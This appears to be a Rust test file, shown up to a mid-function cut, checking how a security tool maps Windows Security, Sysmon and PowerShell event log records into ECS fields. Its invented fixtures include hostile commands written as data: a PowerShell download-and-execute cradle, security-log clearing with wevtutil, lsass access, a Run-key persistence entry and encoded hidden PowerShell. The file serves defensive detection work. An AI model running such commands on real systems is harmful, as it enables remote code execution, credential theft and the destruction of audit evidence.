//! The mapping on records shaped like the `evtx` crate's JSON (written here
//! by hand), and the reader on invented bytes.

use std::io::Cursor;

use chrono::{DateTime, Utc};
use mamori_model::Event;
use serde_json::{Value, json};

use super::*;

fn ctx() -> ParseContext {
    ParseContext {
        tenant: "acme".into(),
        source_name: "test.evtx".into(),
        ingest_time: DateTime::parse_from_rfc3339("2030-01-02T03:04:05Z")
            .unwrap()
            .with_timezone(&Utc),
    }
}

/// A record as the crate renders it: `System` with attributes under
/// `#attributes`, and `data` (an `EventData` or `UserData` member).
fn record(channel: &str, provider: &str, id: Value, keywords: &str, data: Value) -> Value {
    let mut event = json!({
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": provider, "Guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}"}},
            "EventID": id,
            "Version": 2,
            "Level": 0,
            "Task": 12544,
            "Opcode": 0,
            "Keywords": keywords,
            "TimeCreated": {"#attributes": {"SystemTime": "2023-05-18T18:28:20.1779291Z"}},
            "EventRecordID": 245031,
            "Correlation": {"#attributes": {"ActivityID": "{ae1a2cab-0b85-0000-ac2f-1aae850bd501}"}},
            "Execution": {"#attributes": {"ProcessID": 4, "ThreadID": 1304}},
            "Channel": channel,
            "Computer": "DC1.corp.local",
            "Security": {"#attributes": {"UserID": "S-1-5-18"}}
        }
    });
    if let (Some(obj), Value::Object(data)) = (event.as_object_mut(), data) {
        obj.extend(data);
    }
    json!({ "Event": event })
}

fn security(id: u32, keywords: &str, data: Value) -> Event {
    map(&record(
        "Security",
        "Microsoft-Windows-Security-Auditing",
        json!(id),
        keywords,
        json!({ "EventData": data }),
    ))
}

fn sysmon(id: u32, data: Value) -> Event {
    map(&record(
        "Microsoft-Windows-Sysmon/Operational",
        "Microsoft-Windows-Sysmon",
        json!(id),
        "0x8000000000000000",
        json!({ "EventData": data }),
    ))
}

fn map(v: &Value) -> Event {
    let original = serde_json::to_string(v).unwrap();
    map_record(v, &original, None, &ctx()).unwrap()
}

fn s<'a>(ev: &'a Event, path: &str) -> Option<&'a str> {
    ev.get_str(path)
}

const SUCCESS: &str = "0x8020000000000000";
const FAILURE: &str = "0x8010000000000000";

#[test]
fn system_fields() {
    let ev = security(4688, SUCCESS, json!({"SubjectUserName": "fgaeta"}));
    assert_eq!(s(&ev, "@timestamp"), Some("2023-05-18T18:28:20.177929Z"));
    assert_eq!(s(&ev, "event.kind"), Some("event"));
    assert_eq!(s(&ev, "event.module"), Some("windows"));
    assert_eq!(s(&ev, "event.dataset"), Some("windows.security"));
    assert_eq!(s(&ev, "event.code"), Some("4688"));
    assert_eq!(s(&ev, "winlog.event_id"), Some("4688"));
    assert_eq!(s(&ev, "winlog.channel"), Some("Security"));
    assert_eq!(
        s(&ev, "winlog.provider_name"),
        Some("Microsoft-Windows-Security-Auditing")
    );
    assert_eq!(
        s(&ev, "event.provider"),
        Some("Microsoft-Windows-Security-Auditing")
    );
    assert_eq!(
        s(&ev, "winlog.provider_guid"),
        Some("{54849625-5478-4994-a5ba-3e3b0328c30d}")
    );
    assert_eq!(s(&ev, "winlog.computer_name"), Some("DC1.corp.local"));
    assert_eq!(s(&ev, "host.name"), Some("DC1.corp.local"));
    assert_eq!(s(&ev, "winlog.record_id"), Some("245031"));
    assert_eq!(ev.get("winlog.process.pid"), Some(&json!(4)));
    assert_eq!(ev.get("winlog.process.thread.id"), Some(&json!(1304)));
    assert_eq!(s(&ev, "winlog.task"), Some("12544"));
    assert_eq!(s(&ev, "winlog.opcode"), Some("Info"));
    assert_eq!(ev.get("winlog.keywords"), Some(&json!(["Audit Success"])));
    assert_eq!(s(&ev, "winlog.level"), Some("information"));
    assert_eq!(s(&ev, "log.level"), Some("information"));
    assert_eq!(ev.get("winlog.version"), Some(&json!(2)));
    assert_eq!(
        s(&ev, "winlog.activity_id"),
        Some("{ae1a2cab-0b85-0000-ac2f-1aae850bd501}")
    );
    assert_eq!(s(&ev, "winlog.user.identifier"), Some("S-1-5-18"));
    assert_eq!(s(&ev, "event.outcome"), Some("success"));
    assert_eq!(s(&ev, "winlog.event_data.SubjectUserName"), Some("fgaeta"));
}

#[test]
fn event_id_is_stable_and_keyed_on_the_record() {
    let a = security(4624, SUCCESS, json!({"TargetUserName": "a"}));
    let b = security(4624, SUCCESS, json!({"TargetUserName": "a"}));
    assert_eq!(a.id(), b.id());
    let key = "DC1.corp.local/Security/245031/2023-05-18T18:28:20.1779291Z";
    assert_eq!(a.id(), Event::derived_id("acme", key));
    // Without a computer or record id the id is derived from the original.
    let mut v = record("Security", "p", json!(1), SUCCESS, json!({}));
    v["Event"]["System"]
        .as_object_mut()
        .unwrap()
        .remove("EventRecordID");
    let ev = map(&v);
    assert_eq!(ev.id(), Event::derived_id("acme", ev.original()));
}

#[test]
fn event_id_with_qualifiers_and_missing_time() {
    let mut v = record(
        "System",
        "Service Control Manager",
        json!({"#attributes": {"Qualifiers": 16384}, "#text": 7045}),
        "0x8080000000000000",
        json!({"EventData": {
            "ServiceName": "PSEXESVC",
            "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
            "ServiceType": "user mode service",
            "StartType": "demand start",
            "AccountName": "LocalSystem"
        }}),
    );
    v["Event"]["System"]
        .as_object_mut()
        .unwrap()
        .remove("TimeCreated");
    let record_time = DateTime::parse_from_rfc3339("2020-01-01T00:00:00Z")
        .unwrap()
        .with_timezone(&Utc);
    let ev = map_record(&v, "{}", Some(record_time), &ctx()).unwrap();
    assert_eq!(s(&ev, "@timestamp"), Some("2020-01-01T00:00:00.000000Z"));
    assert_eq!(s(&ev, "event.code"), Some("7045"));
    assert_eq!(s(&ev, "event.dataset"), Some("windows.system"));
    assert_eq!(s(&ev, "event.action"), Some("service-installed"));
    assert_eq!(s(&ev, "service.name"), Some("PSEXESVC"));
    assert_eq!(s(&ev, "service.type"), Some("user mode service"));
    assert_eq!(s(&ev, "user.name"), Some("LocalSystem"));
    assert_eq!(ev.get("winlog.keywords"), Some(&json!(["Classic"])));
    assert_eq!(
        s(&ev, "winlog.event_data.ImagePath"),
        Some("%SystemRoot%\\PSEXESVC.exe")
    );

    let ev = map_record(&v, "{}", None, &ctx()).unwrap();
    assert_eq!(s(&ev, "@timestamp"), Some("2030-01-02T03:04:05.000000Z"));
    assert_eq!(ev.get("tags"), Some(&json!(["mamori.timestamp_missing"])));
    assert_eq!(s(&ev, "event.ingested"), Some("2030-01-02T03:04:05.000000Z"));
}

#[test]
fn logon_success() {
    let ev = security(
        4624,
        SUCCESS,
        json!({
            "SubjectUserSid": "S-1-5-18",
            "SubjectUserName": "DC1$",
            "SubjectDomainName": "CORP",
            "SubjectLogonId": "0x3e7",
            "TargetUserSid": "S-1-5-21-1-2-3-1104",
            "TargetUserName": "alice",
            "TargetDomainName": "CORP",
            "TargetLogonId": "0x8a2c1",
            "LogonType": 10,
            "LogonProcessName": "User32 ",
            "WorkstationName": "WKS7",
            "ProcessId": "0x2d0",
            "ProcessName": "C:\\Windows\\System32\\svchost.exe",
            "IpAddress": "::ffff:10.1.2.3",
            "IpPort": "52144"
        }),
    );
    assert_eq!(s(&ev, "event.action"), Some("logged-in"));
    assert_eq!(ev.get("event.category"), Some(&json!(["authentication"])));
    assert_eq!(ev.get("event.type"), Some(&json!(["start"])));
    assert_eq!(s(&ev, "event.outcome"), Some("success"));
    assert_eq!(s(&ev, "user.name"), Some("alice"));
    assert_eq!(s(&ev, "user.domain"), Some("CORP"));
    assert_eq!(s(&ev, "user.id"), Some("S-1-5-21-1-2-3-1104"));
    assert_eq!(s(&ev, "source.ip"), Some("10.1.2.3"));
    assert_eq!(ev.get("source.port"), Some(&json!(52144)));
    assert_eq!(s(&ev, "source.domain"), Some("WKS7"));
    assert_eq!(s(&ev, "winlog.logon.type"), Some("RemoteInteractive"));
    assert_eq!(s(&ev, "winlog.logon.id"), Some("0x8a2c1"));
    assert_eq!(ev.get("process.pid"), Some(&json!(0x2d0)));
    assert_eq!(s(&ev, "process.name"), Some("svchost.exe"));
    assert_eq!(ev.get("related.user"), Some(&json!(["alice", "DC1$"])));
    assert_eq!(ev.get("related.ip"), Some(&json!(["10.1.2.3"])));
    // The originals stay as they were, numbers as strings.
    assert_eq!(s(&ev, "winlog.event_data.LogonType"), Some("10"));
    assert_eq!(s(&ev, "winlog.event_data.IpAddress"), Some("::ffff:10.1.2.3"));
    assert_eq!(s(&ev, "winlog.event_data.LogonProcessName"), Some("User32 "));
}

#[test]
fn logon_failure() {
    let ev = security(
        4625,
        FAILURE,
        json!({
            "SubjectUserSid": "S-1-0-0",
            "SubjectUserName": "-",
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": "administrator",
            "TargetDomainName": ".",
            "Status": "0xc000006d",
            "FailureReason": "%%2313",
            "SubStatus": "0xc000006a",
            "LogonType": "3",
            "IpAddress": "-",
            "IpPort": "-"
        }),
    );
    assert_eq!(s(&ev, "event.action"), Some("logon-failed"));
    assert_eq!(s(&ev, "event.outcome"), Some("failure"));
    assert_eq!(s(&ev, "user.name"), Some("administrator"));
    assert_eq!(s(&ev, "winlog.logon.type"), Some("Network"));
    assert_eq!(
        s(&ev, "winlog.logon.failure.reason"),
        Some("Unknown user name or bad password.")
    );
    assert_eq!(s(&ev, "winlog.logon.failure.status"), Some("0xc000006d"));
    assert_eq!(s(&ev, "winlog.logon.failure.sub_status"), Some("0xc000006a"));
    assert_eq!(ev.get("source.ip"), None);
    assert_eq!(ev.get("source.port"), None);
    assert_eq!(ev.get("related.user"), Some(&json!(["administrator"])));
}

#[test]
fn credential_validation_outcome_follows_status() {
    let ok = security(
        4776,
        SUCCESS,
        json!({"TargetUserName": "bob", "Workstation": "W1", "Status": "0x0"}),
    );
    assert_eq!(s(&ok, "event.action"), Some("credential-validated"));
    assert_eq!(s(&ok, "event.outcome"), Some("success"));
    assert_eq!(s(&ok, "source.domain"), Some("W1"));
    let bad = security(
        4776,
        SUCCESS,
        json!({"TargetUserName": "bob", "Status": "0xc000006a"}),
    );
    assert_eq!(s(&bad, "event.outcome"), Some("failure"));
    assert_eq!(s(&bad, "winlog.logon.failure.status"), Some("0xc000006a"));
    let tgs = security(
        4769,
        SUCCESS,
        json!({"TargetUserName": "svc@CORP.LOCAL", "ServiceName": "krbtgt", "Status": "0x0", "IpAddress": "::1"}),
    );
    assert_eq!(s(&tgs, "event.action"), Some("kerberos-service-ticket-requested"));
    assert_eq!(s(&tgs, "user.name"), Some("svc"));
    assert_eq!(s(&tgs, "source.ip"), Some("::1"));
    let pre = security(4771, FAILURE, json!({"TargetUserName": "bob", "Status": "0x18"}));
    assert_eq!(s(&pre, "event.outcome"), Some("failure"));
}

#[test]
fn process_creation() {
    let ev = security(
        4688,
        SUCCESS,
        json!({
            "SubjectUserSid": "S-1-5-21-1-2-3-1002",
            "SubjectUserName": "fgaeta",
            "SubjectDomainName": "VALKYRIE",
            "SubjectLogonId": "0xa17ee",
            "NewProcessId": "0x2de4",
            "NewProcessName": "C:\\Windows\\System32\\wevtutil.exe",
            "TokenElevationType": "%%1937",
            "ProcessId": "0x19f0",
            "CommandLine": "\"C:\\WINDOWS\\system32\\wevtutil.exe\" cl security",
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": "-",
            "TargetDomainName": "-",
            "TargetLogonId": "0x0",
            "ParentProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "MandatoryLabel": "S-1-16-12288"
        }),
    );
    assert_eq!(s(&ev, "event.action"), Some("created-process"));
    assert_eq!(ev.get("process.pid"), Some(&json!(0x2de4)));
    assert_eq!(
        s(&ev, "process.executable"),
        Some("C:\\Windows\\System32\\wevtutil.exe")
    );
    assert_eq!(s(&ev, "process.name"), Some("wevtutil.exe"));
    assert_eq!(
        s(&ev, "process.command_line"),
        Some("\"C:\\WINDOWS\\system32\\wevtutil.exe\" cl security")
    );
    assert_eq!(ev.get("process.parent.pid"), Some(&json!(0x19f0)));
    assert_eq!(s(&ev, "process.parent.name"), Some("powershell.exe"));
    assert_eq!(s(&ev, "user.name"), Some("fgaeta"));
    assert_eq!(s(&ev, "user.domain"), Some("VALKYRIE"));
    assert_eq!(s(&ev, "user.id"), Some("S-1-5-21-1-2-3-1002"));
    assert_eq!(s(&ev, "user.effective.id"), Some("S-1-0-0"));
    assert_eq!(ev.get("user.effective.name"), None);
    assert_eq!(s(&ev, "winlog.logon.id"), Some("0xa17ee"));
    assert_eq!(
        s(&ev, "winlog.event_data.CommandLine"),
        Some("\"C:\\WINDOWS\\system32\\wevtutil.exe\" cl security")
    );
}

#[test]
fn account_and_group_management() {
    let created = security(
        4720,
        SUCCESS,
        json!({
            "TargetUserName": "backdoor", "TargetDomainName": "CORP", "TargetSid": "S-1-5-21-9",
            "SubjectUserName": "admin", "SubjectDomainName": "CORP", "SubjectUserSid": "S-1-5-21-1"
        }),
    );
    assert_eq!(s(&created, "event.action"), Some("added-user-account"));
    assert_eq!(s(&created, "user.name"), Some("admin"));
    assert_eq!(s(&created, "user.target.name"), Some("backdoor"));
    assert_eq!(s(&created, "user.target.id"), Some("S-1-5-21-9"));
    assert_eq!(created.get("related.user"), Some(&json!(["admin", "backdoor"])));
    for (id, action) in [
        (4722, "enabled-user-account"),
        (4724, "reset-password"),
        (4740, "locked-out-user-account"),
    ] {
        let ev = security(
            id,
            SUCCESS,
            json!({"TargetUserName": "x", "SubjectUserName": "y"}),
        );
        assert_eq!(s(&ev, "event.action"), Some(action));
        assert_eq!(s(&ev, "user.target.name"), Some("x"));
    }

    let added = security(
        4732,
        SUCCESS,
        json!({
            "MemberName": "CN=Eve,OU=Users,DC=corp,DC=local", "MemberSid": "S-1-5-21-7",
            "TargetUserName": "Administrators", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544",
            "SubjectUserName": "admin"
        }),
    );
    assert_eq!(s(&added, "event.action"), Some("added-member-to-group"));
    assert_eq!(s(&added, "group.name"), Some("Administrators"));
    assert_eq!(s(&added, "group.id"), Some("S-1-5-32-544"));
    assert_eq!(s(&added, "user.target.name"), Some("Eve"));
    assert_eq!(s(&added, "user.target.id"), Some("S-1-5-21-7"));
    assert_eq!(s(&added, "user.name"), Some("admin"));
    let global = security(
        4728,
        SUCCESS,
        json!({"MemberName": "-", "MemberSid": "S-1-5-21-8"}),
    );
    assert_eq!(s(&global, "event.action"), Some("added-member-to-group"));
    assert_eq!(global.get("user.target.name"), None);
    assert_eq!(s(&global, "user.target.id"), Some("S-1-5-21-8"));
}

#[test]
fn special_logon_and_service_install() {
    let ev = security(
        4672,
        SUCCESS,
        json!({"SubjectUserName": "admin", "SubjectLogonId": "0x1", "PrivilegeList": "SeDebugPrivilege\r\n\t\t\tSeBackupPrivilege"}),
    );
    assert_eq!(s(&ev, "event.action"), Some("logged-in-special"));
    assert_eq!(s(&ev, "user.name"), Some("admin"));
    let svc = security(
        4697,
        SUCCESS,
        json!({"ServiceName": "evil", "ServiceFileName": "C:\\evil.exe", "ServiceType": "0x10", "SubjectUserName": "admin"}),
    );
    assert_eq!(s(&svc, "event.action"), Some("service-installed"));
    assert_eq!(s(&svc, "service.name"), Some("evil"));
    assert_eq!(s(&svc, "service.type"), Some("Win32 Own Process"));
    let explicit = security(
        4648,
        SUCCESS,
        json!({"SubjectUserName": "alice", "TargetUserName": "admin", "TargetServerName": "dc1", "IpAddress": "10.0.0.9", "IpPort": "0"}),
    );
    assert_eq!(s(&explicit, "event.action"), Some("logged-in-explicit"));
    assert_eq!(s(&explicit, "user.name"), Some("alice"));
    assert_eq!(s(&explicit, "user.effective.name"), Some("admin"));
    assert_eq!(s(&explicit, "source.ip"), Some("10.0.0.9"));
    assert_eq!(explicit.get("source.port"), None);
}

#[test]
fn log_cleared_reads_user_data() {
    let v = record(
        "Security",
        "Microsoft-Windows-Eventlog",
        json!(1102),
        "0x4020000000000000",
        json!({"UserData": {"LogFileCleared": {
            "#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"},
            "SubjectUserSid": "S-1-5-21-1-2-3-1002",
            "SubjectUserName": "fgaeta",
            "SubjectDomainName": "VALKYRIE",
            "SubjectLogonId": "0xa17ee"
        }}}),
    );
    let ev = map(&v);
    assert_eq!(s(&ev, "event.action"), Some("audit-log-cleared"));
    assert_eq!(s(&ev, "user.name"), Some("fgaeta"));
    assert_eq!(s(&ev, "user.id"), Some("S-1-5-21-1-2-3-1002"));
    assert_eq!(s(&ev, "winlog.logon.id"), Some("0xa17ee"));
    assert_eq!(s(&ev, "winlog.user_data.SubjectUserName"), Some("fgaeta"));
    assert_eq!(s(&ev, "winlog.user_data.xml_name"), Some("LogFileCleared"));
    assert_eq!(ev.get("winlog.event_data"), None);
    assert_eq!(s(&ev, "event.outcome"), Some("success"));
}

#[test]
fn sysmon_process_create() {
    let ev = sysmon(
        1,
        json!({
            "RuleName": "-",
            "UtcTime": "2023-04-19 17:46:27.020",
            "ProcessGuid": "{0fd50764-28f3-6440-e008-000000001800}",
            "ProcessId": 9044,
            "Image": "C:\\Windows\\System32\\wevtutil.exe",
            "FileVersion": "10.0.18362.1",
            "OriginalFileName": "wevtutil.exe",
            "CommandLine": "\"C:\\WINDOWS\\system32\\wevtutil.exe\" cl security",
            "CurrentDirectory": "C:\\labs\\",
            "User": "VALKYRIE\\fgaeta",
            "LogonId": "0x6cdfe",
            "TerminalSessionId": 1,
            "IntegrityLevel": "High",
            "Hashes": "MD5=53748B0CD4C78AF5EF1D4E77F3C873AF,SHA256=E16B9D201EC1D7E29B3AD532A9AD8F1AE0CB5821BB916A79F6DBEB1C6E6B85FA,IMPHASH=34BC1195516E78393351B444DF843666",
            "ParentProcessGuid": "{0fd50764-8cf6-6439-b900-000000001800}",
            "ParentProcessId": 7820,
            "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "ParentCommandLine": "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ",
            "ParentUser": "VALKYRIE\\fgaeta"
        }),
    );
    assert_eq!(s(&ev, "event.module"), Some("sysmon"));
    assert_eq!(s(&ev, "event.dataset"), Some("windows.sysmon_operational"));
    assert_eq!(s(&ev, "event.action"), Some("Process creation"));
    assert_eq!(ev.get("event.category"), Some(&json!(["process"])));
    assert_eq!(ev.get("rule.name"), None);
    assert_eq!(
        s(&ev, "process.entity_id"),
        Some("{0fd50764-28f3-6440-e008-000000001800}")
    );
    assert_eq!(ev.get("process.pid"), Some(&json!(9044)));
    assert_eq!(
        s(&ev, "process.executable"),
        Some("C:\\Windows\\System32\\wevtutil.exe")
    );
    assert_eq!(s(&ev, "process.name"), Some("wevtutil.exe"));
    assert_eq!(s(&ev, "process.working_directory"), Some("C:\\labs\\"));
    assert_eq!(s(&ev, "process.pe.original_file_name"), Some("wevtutil.exe"));
    assert_eq!(
        s(&ev, "process.parent.entity_id"),
        Some("{0fd50764-8cf6-6439-b900-000000001800}")
    );
    assert_eq!(ev.get("process.parent.pid"), Some(&json!(7820)));
    assert_eq!(s(&ev, "process.parent.name"), Some("powershell.exe"));
    assert_eq!(
        s(&ev, "process.parent.command_line"),
        Some("\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"")
    );
    assert_eq!(
        s(&ev, "process.hash.md5"),
        Some("53748b0cd4c78af5ef1d4e77f3c873af")
    );
    assert_eq!(
        s(&ev, "process.hash.sha256"),
        Some("e16b9d201ec1d7e29b3ad532a9ad8f1ae0cb5821bb916a79f6dbeb1c6e6b85fa")
    );
    assert_eq!(
        s(&ev, "process.pe.imphash"),
        Some("34bc1195516e78393351b444df843666")
    );
    assert_eq!(
        ev.get("related.hash").and_then(Value::as_array).map(Vec::len),
        Some(3)
    );
    assert_eq!(s(&ev, "user.name"), Some("fgaeta"));
    assert_eq!(s(&ev, "user.domain"), Some("VALKYRIE"));
    assert_eq!(s(&ev, "user.id"), Some("S-1-5-18"));
    // Sigma's field names, as they are.
    assert_eq!(
        s(&ev, "winlog.event_data.Image"),
        Some("C:\\Windows\\System32\\wevtutil.exe")
    );
    assert_eq!(s(&ev, "winlog.event_data.ProcessId"), Some("9044"));
    assert_eq!(s(&ev, "winlog.event_data.RuleName"), Some("-"));
    assert_eq!(s(&ev, "winlog.event_data.ParentUser"), Some("VALKYRIE\\fgaeta"));
}

#[test]
fn sysmon_network_and_dns() {
    let net = sysmon(
        3,
        json!({
            "Image": "C:\\Windows\\System32\\rundll32.exe",
            "User": "CORP\\bob",
            "Protocol": "tcp",
            "Initiated": true,
            "SourceIsIpv6": false,
            "SourceIp": "10.0.2.15",
            "SourceHostname": "wks.corp.local",
            "SourcePort": 49717,
            "SourcePortName": "",
            "DestinationIsIpv6": false,
            "DestinationIp": "93.184.216.34",
            "DestinationHostname": "example.org",
            "DestinationPort": 443,
            "DestinationPortName": "https"
        }),
    );
    assert_eq!(s(&net, "event.action"), Some("Network connection"));
    assert_eq!(s(&net, "network.transport"), Some("tcp"));
    assert_eq!(s(&net, "network.protocol"), Some("https"));
    assert_eq!(s(&net, "network.direction"), Some("egress"));
    assert_eq!(s(&net, "network.type"), Some("ipv4"));
    assert_eq!(s(&net, "source.ip"), Some("10.0.2.15"));
    assert_eq!(net.get("source.port"), Some(&json!(49717)));
    assert_eq!(s(&net, "source.domain"), Some("wks.corp.local"));
    assert_eq!(s(&net, "destination.ip"), Some("93.184.216.34"));
    assert_eq!(net.get("destination.port"), Some(&json!(443)));
    assert_eq!(s(&net, "destination.domain"), Some("example.org"));
    assert_eq!(
        net.get("related.ip"),
        Some(&json!(["10.0.2.15", "93.184.216.34"]))
    );
    assert_eq!(s(&net, "winlog.event_data.Initiated"), Some("true"));

    let dns = sysmon(
        22,
        json!({
            "QueryName": "evil.example",
            "QueryStatus": "0",
            "QueryResults": "type:  5 cdn.example;::ffff:198.51.100.7;2001:db8::1;",
            "Image": "C:\\x.exe"
        }),
    );
    assert_eq!(s(&dns, "event.action"), Some("DNSEvent (DNS query)"));
    assert_eq!(s(&dns, "network.protocol"), Some("dns"));
    assert_eq!(s(&dns, "dns.question.name"), Some("evil.example"));
    assert_eq!(
        dns.get("dns.resolved_ip"),
        Some(&json!(["198.51.100.7", "2001:db8::1"]))
    );
    assert_eq!(
        dns.get("related.hosts"),
        Some(&json!(["evil.example", "cdn.example"]))
    );
    assert_eq!(
        dns.get("related.ip"),
        Some(&json!(["198.51.100.7", "2001:db8::1"]))
    );
}

#[test]
fn sysmon_files_images_access_and_registry() {
    let file = sysmon(
        11,
        json!({"Image": "C:\\w.exe", "TargetFilename": "C:\\Users\\bob\\AppData\\evil.dll", "CreationUtcTime": "x"}),
    );
    assert_eq!(s(&file, "event.action"), Some("FileCreate"));
    assert_eq!(s(&file, "file.path"), Some("C:\\Users\\bob\\AppData\\evil.dll"));
    assert_eq!(s(&file, "file.name"), Some("evil.dll"));
    assert_eq!(s(&file, "file.directory"), Some("C:\\Users\\bob\\AppData"));
    assert_eq!(s(&file, "file.extension"), Some("dll"));

    let image = sysmon(
        7,
        json!({
            "Image": "C:\\w.exe", "ImageLoaded": "C:\\Windows\\System32\\dbghelp.dll",
            "OriginalFileName": "DBGHELP.DLL", "Hashes": "SHA1=AB,MD5=00000000", "Signed": "true",
            "Signature": "Microsoft Windows", "SignatureStatus": "Valid"
        }),
    );
    assert_eq!(s(&image, "event.action"), Some("Image loaded"));
    assert_eq!(s(&image, "file.path"), Some("C:\\Windows\\System32\\dbghelp.dll"));
    assert_eq!(s(&image, "file.pe.original_file_name"), Some("DBGHELP.DLL"));
    assert_eq!(image.get("process.pe"), None);
    assert_eq!(s(&image, "file.hash.sha1"), Some("ab"));
    assert_eq!(image.get("file.hash.md5"), None);
    assert_eq!(image.get("file.code_signature.signed"), Some(&json!(true)));
    assert_eq!(s(&image, "file.code_signature.status"), Some("Valid"));

    let access = sysmon(
        10,
        json!({
            "SourceProcessGUID": "{a}", "SourceProcessId": 7820, "SourceThreadId": 7480,
            "SourceImage": "C:\\x\\powershell.exe", "TargetProcessGUID": "{b}", "TargetProcessId": 9044,
            "TargetImage": "C:\\WINDOWS\\system32\\lsass.exe", "GrantedAccess": "0x1fffff"
        }),
    );
    assert_eq!(s(&access, "event.action"), Some("ProcessAccess"));
    assert_eq!(s(&access, "process.entity_id"), Some("{a}"));
    assert_eq!(access.get("process.pid"), Some(&json!(7820)));
    assert_eq!(access.get("process.thread.id"), Some(&json!(7480)));
    assert_eq!(s(&access, "process.name"), Some("powershell.exe"));
    assert_eq!(
        s(&access, "winlog.event_data.TargetImage"),
        Some("C:\\WINDOWS\\system32\\lsass.exe")
    );
    assert_eq!(s(&access, "winlog.event_data.GrantedAccess"), Some("0x1fffff"));

    let reg = sysmon(
        13,
        json!({
            "EventType": "SetValue", "Image": "C:\\r.exe",
            "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil",
            "Details": "C:\\evil.exe"
        }),
    );
    assert_eq!(s(&reg, "event.action"), Some("RegistryEvent (Value Set)"));
    assert_eq!(
        s(&reg, "registry.path"),
        Some("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil")
    );
    assert_eq!(s(&reg, "registry.hive"), Some("HKLM"));
    assert_eq!(
        s(&reg, "registry.key"),
        Some("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil")
    );
    assert_eq!(s(&reg, "registry.value"), Some("evil"));
    assert_eq!(reg.get("registry.data.strings"), Some(&json!(["C:\\evil.exe"])));

    let deleted = sysmon(
        23,
        json!({"TargetFilename": "C:\\t.txt", "Hashes": "SHA256=AA", "IsExecutable": false, "Archived": "true"}),
    );
    assert_eq!(s(&deleted, "file.hash.sha256"), Some("aa"));
    assert_eq!(s(&deleted, "file.path"), Some("C:\\t.txt"));

    let error = sysmon(
        255,
        json!({"UtcTime": "x", "ID": "DriverCommunication", "Description": "d"}),
    );
    assert_eq!(s(&error, "event.outcome"), Some("failure"));
    assert_eq!(s(&error, "error.code"), Some("DriverCommunication"));
}

#[test]
fn powershell_script_blocks_and_context() {
    let op = "Microsoft-Windows-PowerShell/Operational";
    let ev = map(&record(
        op,
        "Microsoft-Windows-PowerShell",
        json!(4104),
        "0x0",
        json!({"EventData": {
            "MessageNumber": 1, "MessageTotal": 1,
            "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
            "ScriptBlockId": "e5a9f9d7-1c2b-4a6b-9a3f-123456789abc",
            "Path": "C:\\temp\\a.ps1"
        }}),
    ));
    assert_eq!(s(&ev, "event.dataset"), Some("windows.powershell_operational"));
    assert_eq!(
        s(&ev, "powershell.file.script_block_text"),
        Some("IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')")
    );
    assert_eq!(
        s(&ev, "powershell.file.script_block_id"),
        Some("e5a9f9d7-1c2b-4a6b-9a3f-123456789abc")
    );
    assert_eq!(ev.get("powershell.sequence"), Some(&json!(1)));
    assert_eq!(ev.get("powershell.total"), Some(&json!(1)));
    assert_eq!(s(&ev, "file.path"), Some("C:\\temp\\a.ps1"));
    assert_eq!(ev.get("event.type"), Some(&json!(["info"])));
    assert_eq!(ev.get("winlog.keywords"), None);
    assert_eq!(ev.get("event.outcome"), None);

    let context = "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Version = 5.1.17763.1\r\n        Host ID = 3b5a\r\n        Host Application = powershell.exe -nop -w hidden -c x=1\r\n        Engine Version = 5.1.17763.1\r\n        Runspace ID = 9a1\r\n        Pipeline ID = 7\r\n        Command Name = Invoke-Expression\r\n        Command Type = Cmdlet\r\n        Script Name = \r\n        Command Path = \r\n        Sequence Number = 16\r\n        User = CORP\\bob\r\n        Connected User = \r\n        Shell ID = Microsoft.PowerShell\r\n";
    let ev = map(&record(
        op,
        "Microsoft-Windows-PowerShell",
        json!(4103),
        "0x0",
        json!({"EventData": {"ContextInfo": context, "UserData": "", "Payload": "CommandInvocation(Invoke-Expression): \"Invoke-Expression\""}}),
    ));
    assert_eq!(
        s(&ev, "process.command_line"),
        Some("powershell.exe -nop -w hidden -c x=1")
    );
    assert_eq!(s(&ev, "process.title"), Some("ConsoleHost"));
    assert_eq!(s(&ev, "process.entity_id"), Some("3b5a"));
    assert_eq!(s(&ev, "powershell.engine.version"), Some("5.1.17763.1"));
    assert_eq!(s(&ev, "powershell.command.name"), Some("Invoke-Expression"));
    assert_eq!(s(&ev, "powershell.command.type"), Some("Cmdlet"));
    assert_eq!(s(&ev, "powershell.id"), Some("Microsoft.PowerShell"));
    assert_eq!(ev.get("event.sequence"), Some(&json!(16)));
    assert_eq!(s(&ev, "user.name"), Some("bob"));
    assert_eq!(ev.get("file.path"), None);
    assert_eq!(s(&ev, "winlog.event_data.ContextInfo"), Some(context));

    let classic = map(&record(
        "Windows PowerShell",
        "PowerShell",
        json!({"#attributes": {"Qualifiers": 0}, "#text": 400}),
        "0x80000000000000",
        json!({"EventData": {"Data": {"#text": [
            "Available", "None",
            "\tNewEngineState=Available\r\n\tHostName=ConsoleHost\r\n\tHostApplication=powershell -enc SQBFAFgA\r\n\tEngineVersion=2.0\r\n"
        ]}}}),
    ));
    assert_eq!(s(&classic, "event.dataset"), Some("windows.powershell"));
    assert_eq!(classic.get("event.type"), Some(&json!(["start"])));
    assert_eq!(
        s(&classic, "process.command_line"),
        Some("powershell -enc SQBFAFgA")
    );
    assert_eq!(s(&classic, "powershell.engine.version"), Some("2.0"));
    assert_eq!(s(&classic, "winlog.event_data.param1"), Some("Available"));
    assert_eq!(s(&classic, "winlog.event_data.param2"), Some("None"));
}

#[test]
fn other_channels_and_rendering_info() {
    let mut v = record(
        "Microsoft-Windows-WMI-Activity/Operational",
